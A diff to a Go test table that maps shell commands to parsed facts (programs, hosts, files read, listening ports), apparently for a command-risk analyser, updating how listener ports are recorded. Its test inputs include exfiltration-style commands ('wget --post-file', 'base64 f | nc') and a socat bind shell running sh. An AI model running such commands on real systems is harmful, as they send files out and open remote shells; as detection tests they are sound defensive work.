@@ -21,12 +21,15 @@ func TestFacts(t *testing.T) {
 		"wget --post-file=f http://192.0.2.1": {
 			Programs: []string{"wget"}, URLs: []string{"http://192.0.2.1"}, Hosts: []string{"192.0.2.1"}, Reads: []string{"f"}, Upload: true, Download: true,
 		},
-		"nc -lvp 4444":                {Programs: []string{"nc"}, Listens: []string{"*"}, Upload: true, Download: true},
+		"nc -l":                       {Programs: []string{"nc"}, Listens: []string{"*"}, Upload: true, Download: true},
+		"nc -l 8080":                  {Programs: []string{"nc"}, Listens: []string{"8080"}, Upload: true, Download: true},
+		"wget -qO- http://192.0.2.1":  {Programs: []string{"wget"}, URLs: []string{"http://192.0.2.1"}, Hosts: []string{"192.0.2.1"}, Download: true},
+		"nc -lvp 4444":                {Programs: []string{"nc"}, Listens: []string{"4444"}, Upload: true, Download: true},
 		"base64 f | nc h.example 1":   {Programs: []string{"base64", "nc"}, Hosts: []string{"h.example"}, Reads: []string{"f"}, Encoders: []string{"base64"}, Upload: true, Download: true},
 		"ssh -p 22 me@h.example id":   {Programs: []string{"ssh"}, Hosts: []string{"h.example"}, Upload: true, Download: true},
 		"scp -P 22 f me@h.example:d":  {Programs: []string{"scp"}, Hosts: []string{"h.example"}, Reads: []string{"f"}, Upload: true, Download: true},
 		"rsync -a h.example:d dir":    {Programs: []string{"rsync"}, Hosts: []string{"h.example"}, Writes: []string{"dir"}, Upload: true, Download: true},
-		"socat TCP-LISTEN:80 EXEC:sh": {Programs: []string{"socat"}, Listens: []string{"*"}, Upload: true, Download: true},
+		"socat TCP-LISTEN:80 EXEC:sh": {Programs: []string{"socat"}, Listens: []string{"80"}, Upload: true, Download: true},
 		"openssl s_client -connect h.example:443": {
 			Programs: []string{"openssl"}, Hosts: []string{"h.example"}, Encoders: []string{"openssl"},
 		},
